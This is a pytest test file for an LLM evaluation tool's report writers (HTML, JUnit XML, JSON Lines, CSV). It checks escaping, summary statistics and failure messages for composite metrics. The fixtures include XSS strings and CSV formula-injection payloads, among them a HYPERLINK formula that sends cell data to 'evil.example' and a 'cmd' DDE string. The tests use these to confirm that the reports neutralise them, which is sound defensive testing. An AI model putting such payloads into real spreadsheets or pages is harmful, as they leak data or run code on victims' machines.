"""The report writers: HTML (self-contained, escaped, complete), JUnit XML, per-case JSON Lines."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from command_line import Project
from rich.console import Console

from localeval.backends.base import Fingerprint
from localeval.cli.console import print_report
from localeval.data.case import TestCase
from localeval.data.dataset import Dataset
from localeval.data.results import (
    CaseResult,
    MetricResult,
    MetricSummary,
    RunReport,
    RunStats,
)
from localeval.errors import InputError
from localeval.metrics import AnswerRelevancy, Composite, Faithfulness
from localeval.reports import (
    FORMATS,
    REPORT_FILES,
    cases_jsonl,
    junit_xml,
    read_cases,
    render_html,
    write_reports,
)
from localeval.reports.results_csv import results_csv
from localeval.reports.rules import failure_message, pass_rule
from localeval.reports.svg import bin_counts, histogram
from localeval.run.runner import evaluate
from localeval.testing import ScriptedJudge

XSS = "<script>alert(1)</script>"
CLOSER = "</script><b>bold</b>"
SVG = "<svg onload=alert(2)>"

GEVAL_DETAILS = {
    "method": "logprobs",
    "raw_score": 3.2,
    "score_range": [1, 5],
    "expected_score": 3.2,
    "most_likely_score": 4.0,
    "distribution": {"1": 0.1, "2": 0.2, "3": 0.2, "4": 0.4, "5": 0.1},
    "covered_mass": 0.875,
    "evaluation_steps": ["Read the question.", "Compare with <the> expected answer."],
    "steps_source": "given",
}
FAITH_DETAILS = {
    "raw_score": 0.5,
    "truths": ["Paris is in France."],
    "claims": ["Paris is in France.", "Paris is in Spain."],
    "dropped": {"truths": 0, "claims": 1},
    "verdicts": [{"claim": "Paris is in France.", "verdict": "yes"}, {"claim": "Paris is in Spain.", "verdict": "no"}],
    "counts": {"yes": 1, "no": 1, "idk": 0},
    "idk_is_faithful": True,
}
DAG_DETAILS = {
    "raw_score": 0.8,
    "path": [
        {"node_id": "is_answer", "kind": "binary", "verdict": "yes", "score": None},
        {"node_id": "tone", "kind": "non_binary", "output": "polite", "score": 0.8, "note": "leaf"},
    ],
    "extra": {"nested": [{"a": 1}]},
}


def mr(metric: str, kind: str, score: float | None, passed: bool | None, *, threshold: float = 0.5,
       reason: str = "", details: dict | None = None, error: str | None = None) -> MetricResult:
    return MetricResult(metric=metric, kind=kind, score=score, passed=passed, threshold=threshold,
                        reason=reason, details=details or {}, error=error, duration_s=0.25,
                        lower_is_better=kind == "hallucination")


def sample_report() -> RunReport:
    """Four cases × four metrics: G-Eval, faithfulness, hallucination (lower is better), a DAG."""
    rows = [
        ("capital", {"input": "Capital of France?", "expected_output": "Paris", "name": "capital",
                     "retrieval_context": ["Paris is the capital.", "Lyon is a city."], "tags": ["geo"],
                     "actual_output": "Paris."},
         [mr("correctness", "geval", 0.55, True, reason="Close enough.", details=GEVAL_DETAILS),
          mr("faithfulness", "faithfulness", 1.0, True, details=FAITH_DETAILS),
          mr("hallucination", "hallucination", 0.0, True),
          mr("route", "dag", 0.8, True, details=DAG_DETAILS)]),
        ("xss", {"input": XSS, "actual_output": CLOSER, "expected_output": SVG},
         [mr("correctness", "geval", 0.31, False, reason=f"Bad: {XSS} & {CLOSER}", details=GEVAL_DETAILS),
          mr("faithfulness", "faithfulness", None, None, error=f"MetricInputError: no retrieval_context {XSS}"),
          mr("hallucination", "hallucination", 0.75, False, reason="Contradicts\x00 the context."),
          mr("route", "dag", 0.2, False, details={"path": [{"node_id": XSS, "verdict": "no"}]})]),
        (None, {"input": "unnamed"},
         [mr("correctness", "geval", 0.9, True), mr("faithfulness", "faithfulness", 0.5, True),
          mr("hallucination", "hallucination", 0.5, True), mr("route", "dag", 1.0, True)]),
        ("quotes \"'&", {"input": "a \u2028 line separator", "tools_called": [{"name": "search"}]},
         [mr("correctness", "geval", 1.0, True), mr("faithfulness", "faithfulness", 0.0, False),
          mr("hallucination", "hallucination", 0.25, True), mr("route", "dag", 0.0, False)]),
    ]
    cases = [
        CaseResult(index=i, name=name, location=f"data.jsonl:{i + 1}", inputs=inputs, results=results)
        for i, (name, inputs, results) in enumerate(rows)
    ]
    metrics = [r.metric for r in cases[0].results]
    return RunReport(
        run_id="run-abc",
        created_at="2026-11-01T12:00:00+00:00",
        localeval_version="0.1.0",
        config={"note": XSS},
        backend=Fingerprint(kind="llama.cpp", model="tiny-model", model_sha256="a" * 64, runtime="x 1"),
        cases=cases,
        summary=[MetricSummary.of(m, [c.results[i] for c in cases]) for i, m in enumerate(metrics)],
        stats=RunStats(model_calls=12, cache_hits=3, duration_s=4.5),
    )


# --- pass rules and charts --------------------------------------------------------------


def test_pass_rule_is_the_results_own() -> None:
    assert pass_rule(mr("m", "k", 0.5, True)) == ">="
    assert pass_rule(mr("m", "k", 0.5, True).model_copy(update={"lower_is_better": True})) == "<="
    assert pass_rule(mr("m", "k", None, None, error="BackendError: down")) == ">="


def test_failure_messages_state_score_threshold_and_rule() -> None:
    assert failure_message(mr("m", "k", 0.31, False)) == "score 0.31 < threshold 0.5 (passes at score >= threshold)"
    lower = mr("m", "k", 0.75, False).model_copy(update={"lower_is_better": True})
    assert failure_message(lower) == "score 0.75 > threshold 0.5 (passes at score <= threshold)"


def test_bin_counts_put_each_score_in_its_tenth_and_one_in_the_last() -> None:
    assert bin_counts([0.0, 0.05, 0.1, 0.3, 0.55, 0.7, 0.99, 1.0]) == [2, 1, 0, 1, 0, 1, 0, 1, 0, 2]
    assert bin_counts([]) == [0] * 10


def test_histogram_marks_the_threshold() -> None:
    svg = histogram([0.2, 0.9, 0.95], 0.5, width=200)
    assert svg.count('class="bar"') == 10
    assert '<line class="threshold" x1="100.0"' in svg
    assert "xmlns" not in svg  # inline SVG needs no namespace URL


# --- HTML -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def page() -> str:
    return render_html(sample_report())


def test_html_refers_to_nothing_outside_the_file(page: str) -> None:
    for needle in ("http://", "https://", "src=", "href=\"//", "@import", "url(", "<link", "<iframe"):
        assert needle not in page.lower(), needle
    assert re.findall(r'href="([^"]*)"', page) == [f"#case-{n}" for n in range(1, 5)]


def test_html_escapes_every_string_from_the_report(page: str) -> None:
    assert XSS not in page
    assert "<b>bold</b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert page.count("<script") == 1 and page.count("</script>") == 1  # only the page's own script
    assert "quotes &quot;&#x27;&amp;" in page


def test_html_shows_every_case_and_metric(page: str) -> None:
    report = sample_report()
    for n in range(1, len(report.cases) + 1):
        assert f'id="case-{n}"' in page
    for name in ("capital", "xss", "case-3", "data.jsonl:4"):
        assert name in page
    for metric in ("correctness", "faithfulness", "hallucination", "route"):
        assert page.count(f"<h3>{metric}") == 1  # its summary card
        assert page.count(f"<h4>{metric}") == 4  # its result in each case
    assert page.count('class="cell pass"') == 10
    assert page.count('class="cell fail"') == 5
    assert page.count('class="cell error"') == 1
    assert 'data-failed="1" data-errored="1"' in page  # case xss


def test_html_header_names_the_run_and_the_backend(page: str) -> None:
    facts = {"run": "run-abc", "created": "2026-11-01T12:00:00+00:00", "model": "tiny-model",
             "model sha256": "a" * 64, "duration": "4.5 s", "model calls": "12", "cache hits": "3"}
    for name, value in facts.items():
        assert re.search(f"<dt>{name}</dt><dd[^>]*>{re.escape(value)}</dd>", page), name


def test_an_opened_case_shows_input_output_and_expected_output_before_name_and_tags(page: str) -> None:
    case = page.split('id="case-1"', 1)[1].split('<section class="results">', 1)[0]
    assert re.findall(r"<dt>([^<]*)</dt>", case) == [
        "input", "actual_output", "expected_output", "name", "tags", "retrieval_context"]


def test_html_header_folds_the_fingerprints_under_one_line_naming_the_judge(page: str) -> None:
    header = page.split("<main>", 1)[0]
    shown, folded = header.split('<details class="fingerprints">', 1)
    assert folded.startswith("<summary>judge tiny-model (llama.cpp) · fingerprints</summary>")
    assert "sha256" not in shown and "runtime" not in shown and "<dt>model calls</dt>" in shown
    assert re.search(r"<dt>model sha256</dt><dd[^>]*>a{64}</dd>", folded.split("</details>", 1)[0])


def test_html_header_names_named_judges_and_escapes_their_fingerprints() -> None:
    judge = Fingerprint(kind="openai", model=XSS, runtime="srv", settings={"temperature": 0})
    report = sample_report().model_copy(update={"backend": None, "judges": {"strict": judge}})
    header = render_html(report).split("<main>", 1)[0]
    assert "<summary>1 named judge · fingerprints</summary>" in header
    assert "<dt>judge strict: model</dt><dd>&lt;script&gt;alert(1)&lt;/script&gt;</dd>" in header
    assert "<dt>judge strict: setting temperature</dt><dd>0</dd>" in header
    assert 'class="fingerprints"' not in render_html(sample_report().model_copy(update={"backend": None}))  # none


def test_html_summary_gives_each_figure_its_95_percent_interval(page: str) -> None:
    # correctness: 3 of 4 passed; Wilson's interval for 3/4 is [0.3006, 0.9544]. Its four scores are too
    # few to resample (stats.MIN_VALUES): the mean stands alone.
    card = page.split("<h3>correctness", 1)[1].split("</article>", 1)[0]
    assert ('<b>75%</b><span class="ci" title="95% confidence interval (wilson)">[30–95]</span>'
            "<small>pass rate</small>") in card
    assert "<b>0.690</b><small>mean score</small>" in card
    twelve = [mr("m", "geval", score, score >= 0.5) for score in (0.2, 0.4, 0.6, 0.9) * 3]
    case = CaseResult(index=0, results=twelve)
    summary = MetricSummary.of("m", twelve)
    mean = render_html(sample_report().model_copy(update={"cases": [case], "summary": [summary]}))
    assert ('<b>0.525</b><span class="ci" title="95% confidence interval (bootstrap BCa)">[0.392–0.677]</span>'
            "<small>mean score</small>") in mean  # seeded: the same interval on every machine


def test_html_of_a_report_without_intervals_shows_the_figures_alone() -> None:
    report = sample_report()
    older = [s.model_copy(update={"pass_rate_interval": None, "mean_score_interval": None}) for s in report.summary]
    card = render_html(report.model_copy(update={"summary": older})).split("<h3>correctness", 1)[1]
    assert card.split("</article>", 1)[0].count('class="ci"') == 0 and "<b>75%</b><small>pass rate</small>" in card


def test_html_summary_has_a_histogram_per_metric_and_the_rule(page: str) -> None:
    assert page.count('aria-label="score histogram') == 4
    assert "passes at score ≤ 0.5" in page  # hallucination: lower is better
    assert page.count("passes at score ≥ 0.5") == 3


def test_html_renders_evidence_by_its_shape(page: str) -> None:
    assert page.count("the judge&#x27;s probability of each score") == 2  # two G-Eval results with evidence
    assert ">87.5%<" in page  # covered mass
    assert "<ol><li>Read the question.</li><li>Compare with &lt;the&gt; expected answer.</li></ol>" in page
    assert '<td class="verdict bad">no</td>' in page and '<td class="verdict good">yes</td>' in page
    assert "yes: 1, no: 1, idk: 0" in page  # counts as the table's caption
    assert '<ol class="path">' in page and "non_binary" in page and "polite" in page
    assert "extra (1)" in page and "&quot;nested&quot;" in page  # fallback: pretty JSON
    assert '<ol class="items"><li><div class="text">Paris is the capital.</div></li>' in page  # list input


def test_write_html_leaves_only_the_file(tmp_path: Path) -> None:
    path = tmp_path / "out" / "report.html"
    write_reports(sample_report(), copies={"html": path})
    assert [p.name for p in path.parent.iterdir()] == ["report.html"]
    assert path.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_the_template_ships_inside_the_package() -> None:
    assets = files("localeval.reports").joinpath("assets")
    assert {"report.html", "report.css", "report.js"} <= {p.name for p in assets.iterdir()}


# --- JUnit ------------------------------------------------------------------------------


def test_junit_has_a_suite_per_metric_with_counts() -> None:
    root = ET.fromstring(junit_xml(sample_report()))
    assert root.tag == "testsuites"
    assert (root.get("tests"), root.get("failures"), root.get("errors")) == ("16", "5", "1")
    suites = {s.get("name"): s for s in root.findall("testsuite")}
    assert list(suites) == ["correctness", "faithfulness", "hallucination", "route"]
    counts = {name: (s.get("tests"), s.get("failures"), s.get("errors")) for name, s in suites.items()}
    assert counts == {
        "correctness": ("4", "1", "0"),
        "faithfulness": ("4", "1", "1"),
        "hallucination": ("4", "1", "0"),
        "route": ("4", "2", "0"),
    }
    assert suites["correctness"].get("time") == "1.000"
    properties = {p.get("name"): p.get("value") for p in suites["route"].iter("property")}
    assert properties["run_id"] == "run-abc" and properties["model"] == "tiny-model"
    assert properties["metric_kind"] == "dag"


def test_junit_properties_give_the_figures_and_their_intervals() -> None:
    root = ET.fromstring(junit_xml(sample_report()))
    found = root.findall("testsuite[@name='correctness']/properties/property")
    properties = {str(p.get("name")): str(p.get("value")) for p in found}
    # Wilson's 3 of 4: [0.3006, 0.9544]; four scores are too few for the mean's (stats.MIN_VALUES)
    assert (properties["pass_rate"], properties["pass_rate_ci95_low"], properties["pass_rate_ci95_high"]) == (
        "0.75", "0.300642", "0.954413")
    assert properties["mean_score"] == "0.69" and "mean_score_ci95_low" not in properties


def test_junit_testcases_say_why_they_failed_or_errored() -> None:
    root = ET.fromstring(junit_xml(sample_report()))
    cases = root.findall("testsuite[@name='hallucination']/testcase")
    assert [c.get("name") for c in cases] == ["capital", "xss", "case-3", "quotes \"'&"]
    assert {c.get("classname") for c in cases} == {"localeval.hallucination"}
    assert (cases[1].get("file"), cases[1].get("line")) == ("data.jsonl", "2")
    (failure,) = cases[1].findall("failure")
    assert failure.get("message") == "score 0.75 > threshold 0.5 (passes at score <= threshold)"
    assert failure.text == "Contradicts\ufffd the context."  # NUL cannot be in XML
    (error,) = root.findall("testsuite[@name='faithfulness']/testcase[@name='xss']/error")
    assert error.get("type") == "MetricInputError"
    assert error.text == f"MetricInputError: no retrieval_context {XSS}"
    assert not cases[0].findall("*")  # a pass has no child


def test_junit_of_an_empty_run_is_valid() -> None:
    report = sample_report().model_copy(update={"cases": [], "summary": []})
    root = ET.fromstring(junit_xml(report))
    assert (root.get("tests"), root.findall("testsuite")) == ("0", [])


# --- JSON Lines -------------------------------------------------------------------------


def test_cases_jsonl_round_trips(tmp_path: Path) -> None:
    report = sample_report()
    path = tmp_path / "cases.jsonl"
    write_reports(report, copies={"cases": path})
    lines = path.read_text(encoding="utf-8").split("\n")
    assert len(lines) == len(report.cases) + 1 and lines[-1] == ""
    first = json.loads(lines[0])
    assert list(first) == ["index", "name", "location", "inputs", "results", "target"]
    assert read_cases(path) == report.cases  # U+2028 inside a string survives


def test_read_cases_names_the_line_at_fault(tmp_path: Path) -> None:
    path = tmp_path / "cases.jsonl"
    good = cases_jsonl(sample_report().cases[:1])
    path.write_text(good + "\n{not json\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"cases.jsonl:3: not JSON"):
        read_cases(path)
    path.write_text(good + '{"index": 1}\n', encoding="utf-8")
    with pytest.raises(InputError, match=r"cases.jsonl:2: field 'results': Field required"):
        read_cases(path)
    with pytest.raises(InputError, match="cannot read cases"):
        read_cases(tmp_path / "absent.jsonl")


# --- CSV ---------------------------------------------------------------------------------


def read_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_has_a_row_per_case_and_metric_that_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    write_reports(sample_report(), copies={"csv": path})
    text = path.read_bytes().decode("utf-8")  # as written: read_text would turn its \r\n into \n
    assert text.startswith("case,name,location,metric,score,threshold,passes_at,passed,errored,error,reason,"
                           "input,actual_output,expected_output\r\n")  # no target column: the run had none
    rows = read_csv(text)
    assert len(rows) == 16
    assert rows[0] == {"case": "1", "name": "capital", "location": "data.jsonl:1", "metric": "correctness",
                       "score": "0.55", "threshold": "0.5", "passes_at": ">=", "passed": "true", "errored": "false",
                       "error": "", "reason": "Close enough.", "input": "Capital of France?",
                       "actual_output": "Paris.", "expected_output": "Paris"}
    errored = rows[5]  # case 2, faithfulness
    assert (errored["passed"], errored["errored"], errored["score"]) == ("", "true", "")
    assert errored["error"] == f"MetricInputError: no retrieval_context {XSS}"
    assert rows[6]["passes_at"] == "<=" and rows[6]["reason"] == "Contradicts\x00 the context."  # NUL kept
    assert rows[4]["actual_output"] == CLOSER and rows[4]["expected_output"] == SVG
    assert rows[12]["name"] == "quotes \"'&" and rows[12]["input"] == "a \u2028 line separator"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    inputs = {"input": formula, "actual_output": f"{start}1+1", "expected_output": "fine = fine"}
    case = CaseResult(index=0, name=formula, inputs=inputs,
                      results=[mr("m", "geval", 0.5, True, reason=f"{start}cmd|' /C calc'!A0")])
    report = sample_report().model_copy(update={"cases": [case]})
    (row,) = read_csv(results_csv(report))
    assert row["input"] == row["name"] == "'" + formula
    assert row["actual_output"] == f"'{start}1+1" and row["reason"].startswith(f"'{start}cmd")
    assert row["expected_output"] == "fine = fine"  # only a leading character is a risk


def test_csv_has_a_target_column_when_the_run_had_targets() -> None:
    report = sample_report()
    cases = [c.model_copy(update={"target": name}) for c, name in zip(report.cases[:2], ["small", "large"])]
    rows = read_csv(results_csv(report.model_copy(update={"cases": cases})))
    assert [(r["case"], r["target"]) for r in rows[::4]] == [("1", "small"), ("2", "large")]


def test_run_and_report_write_the_csv_where_asked(project: Project) -> None:
    project.write("cases.jsonl", '{"name": "a", "input": "q", "actual_output": "=1+1", "expected_output": "2"}\n')
    done = project.localeval("run", "cases.jsonl", "-m", "exact_match", "--run-dir", "run", "--csv", "out/r.csv")
    assert done.returncode == 1, done.stderr  # "=1+1" is not "2"
    copy = read_csv((project / "out" / "r.csv").read_bytes().decode())
    assert [(r["name"], r["actual_output"], r["passed"]) for r in copy] == [("a", "'=1+1", "false")]
    assert (project / "run" / "results.csv").read_bytes() == (project / "out" / "r.csv").read_bytes()
    again = project.localeval("report", "run", "--csv", "again.csv")
    assert again.returncode == 0 and again.stdout.split() == ["again.csv"], again.stderr  # only the copy
    assert (project / "again.csv").read_bytes() == (project / "out" / "r.csv").read_bytes()


def test_every_report_copy_the_cli_and_config_offer_is_a_registered_format() -> None:
    from localeval.cli.settings import CommandLine
    from localeval.config import ReportConfig

    assert set(CommandLine().copies()) == set(ReportConfig().copies()) == set(FORMATS) - {"cases"}
    flags = {opt for param in click_command("run").params for opt in param.opts}
    assert {f"--{name}" for name in FORMATS if name not in ("json", "cases")} <= flags  # json: --report


def click_command(name: str) -> Any:
    import typer

    from localeval.cli.app import app

    return typer.main.get_command(app).commands[name]  # type: ignore[attr-defined]


# --- write_reports ----------------------------------------------------------------------


def test_write_reports_into_a_run_folder(tmp_path: Path) -> None:
    report = sample_report()
    written = write_reports(report, tmp_path / "run")
    assert written == [tmp_path / "run" / name for name in REPORT_FILES.values()]
    assert sorted(p.name for p in (tmp_path / "run").iterdir()) == sorted(REPORT_FILES.values())
    assert RunReport.load(tmp_path / "run" / "report.json") == report
    assert read_cases(tmp_path / "run" / "cases.jsonl") == report.cases
    ET.parse(tmp_path / "run" / "junit.xml")


def test_write_reports_to_chosen_paths_only(tmp_path: Path) -> None:
    written = write_reports(sample_report(), copies={"junit": tmp_path / "ci" / "junit.xml", "html": None})
    assert written == [tmp_path / "ci" / "junit.xml"]
    assert [p.name for p in tmp_path.iterdir()] == ["ci"]
    mixed = write_reports(sample_report(), tmp_path / "run", {"html": tmp_path / "page.html"})
    assert mixed[-1] == tmp_path / "page.html" and mixed[0] == tmp_path / "run" / "report.json"


def test_write_reports_errors_are_typed(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="needs a directory"):
        write_reports(sample_report())
    with pytest.raises(InputError, match="unknown report format 'pdf'"):
        write_reports(sample_report(), copies={"pdf": tmp_path / "r.pdf"})
    blocker = tmp_path / "file"
    blocker.write_text("", encoding="utf-8")
    with pytest.raises(InputError, match="cannot write the json report"):
        write_reports(sample_report(), blocker / "run")


@pytest.mark.parametrize(
    ("verdict", "colour"),
    [("biased", "bad"), ("unbiased", "good"), ("toxic", "bad"), ("not_toxic", "good"), ("leaks", "bad"),
     ("safe", "good"), ("idk", "neutral")],
)
def test_the_safety_metrics_verdicts_are_coloured(verdict: str, colour: str) -> None:
    from localeval.reports.evidence import render_evidence

    html = render_evidence({"verdicts": [{"opinion": "x", "verdict": verdict}]})
    assert f'<td class="verdict {colour}">{verdict}</td>' in html


# --- a composite's failure names what failed it ---------------------------------------------

RAG_CASE = TestCase(
    input="What if these shoes don't fit?",
    actual_output="Returns are free. You have 30 days. Keep the receipt. Refunds take a week. Stores take them too.",
    retrieval_context=["Returns are free within 30 days with a receipt."],
)


def composite_report(relevant: list[str], parts: tuple[float, float], **options: Any) -> RunReport:
    """The run of min(faithfulness 3/5 = 0.6, answer relevancy over ``relevant``) on RAG_CASE.

    ``parts``: the parts' thresholds; ``options`` go to the composite.
    """
    judge = ScriptedJudge([{"verdicts": ["yes", "yes", "yes", "no", "no"]}, {"verdicts": relevant}])
    metrics = [Faithfulness(threshold=parts[0], include_reason=False),
               AnswerRelevancy(threshold=parts[1], include_reason=False)]
    composite = Composite(name="grounded", metrics=metrics, aggregate="min", **options)
    report = evaluate(Dataset.from_cases([RAG_CASE]), [composite], judge)
    assert judge.json_values == []  # both replies were asked for
    return report


def composite_failure(relevant: list[str], parts: tuple[float, float], **options: Any) -> ET.Element:
    """The JUnit ``<failure>`` of the composite of :func:`composite_report`."""
    report = composite_report(relevant, parts, **options)
    root = ET.fromstring(junit_xml(report).split("\n", 1)[1])
    (failure,) = root.findall("testsuite[@name='grounded']/testcase/failure")
    return failure


def test_junit_names_the_part_that_failed_a_composite_whose_aggregate_passes() -> None:
    failure = composite_failure(["yes"] * 5, (0.9, 0.5), threshold=0.5)
    assert failure.get("message") == (
        "part 'faithfulness' failed: score 0.6 < threshold 0.9 (passes at score >= threshold)")
    assert failure.text == (
        "min of faithfulness 0.60, answer_relevancy 1.00; failed on its own: faithfulness 0.60 < threshold 0.90")


def test_junit_says_the_aggregate_fell_short_when_every_part_passed() -> None:
    failure = composite_failure(["yes"] * 5, (0.5, 0.5), threshold=0.7)
    assert failure.get("message") == (
        "aggregate (min) fell short: score 0.6 < threshold 0.7 (passes at score >= threshold); "
        "every part passed on its own")


def test_junit_names_every_failed_part_and_the_aggregate() -> None:
    failure = composite_failure(["yes", "yes", "yes", "yes", "no"], (0.9, 0.9), threshold=0.7)
    assert failure.get("message") == (
        "part 'faithfulness' failed: score 0.6 < threshold 0.9 (passes at score >= threshold); "
        "part 'answer_relevancy' failed: score 0.8 < threshold 0.9 (passes at score >= threshold); "
        "aggregate (min) fell short: score 0.6 < threshold 0.7 (passes at score >= threshold)")


def test_junit_blames_only_the_aggregate_when_parts_need_not_pass() -> None:
    failure = composite_failure(["yes"] * 5, (0.9, 0.5), threshold=0.7, require_parts_pass=False)
    assert failure.get("message") == (  # faithfulness failed on its own, but did not decide
        "aggregate (min) fell short: score 0.6 < threshold 0.7 (passes at score >= threshold)")


def test_a_lower_is_better_part_fails_by_its_own_rule_in_the_message() -> None:
    parts = [mr("hallucination", "hallucination", 0.75, False, threshold=0.5).model_dump(),
             mr("em", "exact_match", 1.0, True).model_dump()]
    details = {"aggregate": "max", "parts": parts, "failed_parts": ["hallucination"]}
    composite = mr("c", "composite", 1.0, False, details=details)
    assert failure_message(composite) == (
        "part 'hallucination' failed: score 0.75 > threshold 0.5 (passes at score <= threshold)")


class _FailureLines(HTMLParser):
    """The text of every ``<p class="failure">`` and the title of every result cell of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.failures: list[str] = []
        self.titles: list[str | None] = []
        self._inside = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        classes = (dict(attrs).get("class") or "").split()
        if tag == "p" and "failure" in classes:
            self._inside = True
            self.failures.append("")
        if tag == "span" and "cell" in classes:
            self.titles.append(dict(attrs).get("title"))

    def handle_endtag(self, tag: str) -> None:
        self._inside = self._inside and tag != "p"

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.failures[-1] += data


PART_FAILED = "part 'faithfulness' failed: score 0.6 < threshold 0.9 (passes at score >= threshold)"


def test_html_names_the_part_that_failed_a_composite_in_its_result_and_cell() -> None:
    page = _FailureLines(render_html(composite_report(["yes"] * 5, (0.9, 0.5), threshold=0.5)))
    assert page.failures == [PART_FAILED]
    assert page.titles == [f"grounded: 0.6 fail (threshold 0.5): {PART_FAILED}"]


def test_html_says_the_aggregate_fell_short_and_says_nothing_for_a_passed_composite() -> None:
    short = _FailureLines(render_html(composite_report(["yes"] * 5, (0.5, 0.5), threshold=0.7)))
    assert short.failures == ["aggregate (min) fell short: score 0.6 < threshold 0.7 (passes at score >= threshold); "
                              "every part passed on its own"]
    passed = _FailureLines(render_html(composite_report(["yes"] * 5, (0.5, 0.5), threshold=0.5)))
    assert passed.failures == [] and passed.titles == ["grounded: 0.6 pass (threshold 0.5)"]


def test_html_adds_no_failure_line_to_results_that_are_no_composites(page: str) -> None:
    assert _FailureLines(page).failures == []  # the score and its rule say why those failed


def test_the_terminal_names_the_part_that_failed_a_composite_under_the_results() -> None:
    printed = io.StringIO()
    terminal = Console(file=printed, width=80, force_terminal=False, color_system=None)
    print_report(terminal, composite_report(["yes", "yes", "yes", "yes", "no"], (0.9, 0.9), threshold=0.7))
    lines = printed.getvalue().splitlines()
    why = next(i for i, line in enumerate(lines) if line.startswith("<memory>:1 "))
    assert lines[why] == (
        "<memory>:1 grounded: " + PART_FAILED + "; "
        "part 'answer_relevancy' failed: score 0.8 < threshold 0.9 (passes at score >= threshold); "
        "aggregate (min) fell short: score 0.6 < threshold 0.7 (passes at score >= threshold)")
    assert lines[why - 1].startswith("└") and lines[why + 1].strip() == "Summary"  # right under the results


def test_the_terminal_says_nothing_more_for_a_passed_composite() -> None:
    printed = io.StringIO()
    terminal = Console(file=printed, width=80, force_terminal=False, color_system=None)
    print_report(terminal, composite_report(["yes"] * 5, (0.5, 0.5), threshold=0.5))
    lines = printed.getvalue().splitlines()
    end = next(i for i, line in enumerate(lines) if line.startswith("└"))  # of the results table
    assert lines[end - 1] == "│ 1 │ <memory>:1 │ 0.600 pass │" and lines[end + 1].strip() == "Summary"


def test_the_page_shows_file_names_not_the_folders_they_sit_in() -> None:
    # An arena's dataset lives under the runs folder, a config's under its folder: the page names the
    # file and the line; the whole path is in the fold (and the case's title), for whoever needs it.
    from localeval.data.dataset import DatasetSource
    from localeval.data.results import CaseResult, RunReport
    from localeval.reports.html import render_html

    report = RunReport(
        run_id="r", created_at="2026-11-25T00:00:00Z", localeval_version="0",
        dataset=DatasetSource(path="/home/someone/private/runs/arena/a-b-1234.jsonl", sha256="0" * 64),
        cases=[CaseResult(index=0, location="/home/someone/private/runs/arena/a-b-1234.jsonl:7", results=[])],
        summary=[],
    )
    page = render_html(report)
    visible = page.split('<details class="fingerprints"')[0]  # the header before its fold
    assert "a-b-1234.jsonl" in visible and "/home/someone" not in visible
    assert ">a-b-1234.jsonl:7</small>" in page
    assert 'title="/home/someone/private/runs/arena/a-b-1234.jsonl:7"' in page


def test_an_arena_case_reads_as_its_outcome_not_as_pass_or_fail() -> None:
    # A tie passes (it is no evidence against the first-named): the page must say "tie", not "pass".
    from localeval.data.results import CaseResult, MetricResult, MetricSummary, RunReport
    from localeval.reports.html import render_html

    tie = MetricResult(metric="arena", kind="arena", score=0.496, threshold=0.5, passed=True,
                       details={"outcome": "tie within the judge's noise", "preferred": []})
    report = RunReport(run_id="r", created_at="2026-11-25T00:00:00Z", localeval_version="0",
                       cases=[CaseResult(index=0, results=[tie])], summary=[MetricSummary.of("arena", [tie])])
    page = render_html(report)
    assert "<i>tie within the judge&#x27;s noise</i>" in page
    assert "<dt>outcome</dt><dd>tie within the judge&#x27;s noise</dd>" in page
    assert "<i>pass</i>" not in page
